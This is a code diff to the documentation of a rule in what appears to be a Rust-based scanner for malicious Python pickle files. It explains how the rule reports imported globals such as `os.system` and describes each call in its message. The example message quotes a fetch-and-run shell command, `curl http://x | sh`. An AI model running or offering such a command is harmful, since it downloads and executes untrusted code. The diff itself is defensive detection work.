@@ -19,7 +19,13 @@ crate::rules! {
     /// containers. Each other import is reported at its opcode, with the call that uses it:
     /// `REDUCE`, `NEWOBJ`, `NEWOBJ_EX`, `OBJ`, `INST`, or a `BUILD` that calls a
     /// `__setstate__` an earlier `BUILD` stored. Strings, bytes and tensor data are data: a
-    /// string `'os.system'` is not an import.
+    /// string `'os.system'` is not an import. The message says first what loading does (runs
+    /// a shell command, starts a process, runs Python code, opens a URL or a network
+    /// connection, reads or writes files, imports a module, gets an attribute by name, or
+    /// calls the global) and shows the call as Python writes it, with the arguments the
+    /// pickle passes, escaped and cut to 200 characters: `loading runs a shell command:
+    /// os.system('curl http://x | sh')`, or, where an argument is itself the result of a
+    /// call, that call and `(arguments built at run time)`.
     ///
     /// ## Why
     /// `pickle.load` imports each global and calls what the pickle says: `os.system`,
